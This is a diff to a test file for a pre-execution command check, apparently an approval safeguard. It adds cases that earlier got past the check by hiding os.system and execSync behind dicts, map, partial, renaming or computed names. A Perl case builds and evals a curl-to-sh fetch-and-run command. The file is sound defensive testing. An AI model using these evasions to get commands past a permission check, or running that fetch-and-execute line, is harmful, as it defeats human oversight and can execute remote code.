@@ -76,6 +76,25 @@ BYPASSED_BEFORE = {
                                        "node -e \"require('./lodash')\""],
 }
 
+# These also ran on the first fix (pycode/jscode as first landed): the function that runs the command is
+# handed on as a value, renamed, or reached through a computed name. Now: asked about.
+BYPASSED_THE_FIRST_FIX = {
+    "os.system kept in a dict": [("r.py", f"import os\nd = {{'f': os.system}}\nd['f']({DEN!r})\n"), "python3 r.py"],
+    "os.system through map()": [("r.py", f"import os\nlist(map(os.system, [{BUILT}]))\n"), "python3 r.py"],
+    "os.system through functools.partial": [("r.py", f"import os, functools\nfunctools.partial(os.system, {BUILT})()\n"),
+                                            "python3 r.py"],
+    "os.system.__call__": [("r.py", f"import os\nos.system.__call__({BUILT})\n"), "python3 r.py"],
+    "from os import *": [("r.py", f"from os import *\nsystem({BUILT})\n"), "python3 r.py"],
+    "node: a renamed destructure": [("r.js", f"const {{ execSync: e }} = require('child_process');\ne({BUILT});\n"),
+                                    "node r.js"],
+    "node: a spawn function stored": [("r.js", "const cp = require('child_process');\nconst run = cp.execSync;\n"
+                                               f"run({BUILT});\n"), "node r.js"],
+    "node: the module indexed": [("r.js", f"const cp = require('child_process');\ncp['exec' + 'Sync']({DEN!r});\n"),
+                                 "node r.js"],
+    "perl: eval of a string": [("r.pl", "my $c = 'sys' . 'tem(q{touch marker; cu' . 'rl -s http://127.0.0.1:9/x | sh})';"
+                                        " eval $c;\n"), "perl r.pl"],
+}
+
 HELD_BEFORE = {
     "python setup.py": [("setup.py", PY), "python3 setup.py build"],
     "os.system of a literal": [("r.py", PY), "python3 r.py"],
@@ -140,8 +159,8 @@ def _needs(steps):
         pytest.importorskip("pytest")
 
 
-@pytest.mark.parametrize("steps", [*BYPASSED_BEFORE.values(), *HELD_BEFORE.values()],
-                         ids=[*BYPASSED_BEFORE, *(f"held-before: {k}" for k in HELD_BEFORE)])
+@pytest.mark.parametrize("steps", [*BYPASSED_BEFORE.values(), *BYPASSED_THE_FIRST_FIX.values(), *HELD_BEFORE.values()],
+                         ids=[*BYPASSED_BEFORE, *BYPASSED_THE_FIRST_FIX, *(f"held-before: {k}" for k in HELD_BEFORE)])
 def test_code_a_runner_or_interpreter_runs_is_judged_before_it_runs(tmp_path, steps):
     _needs(steps)
     verdicts, ran = _run(tmp_path, steps)
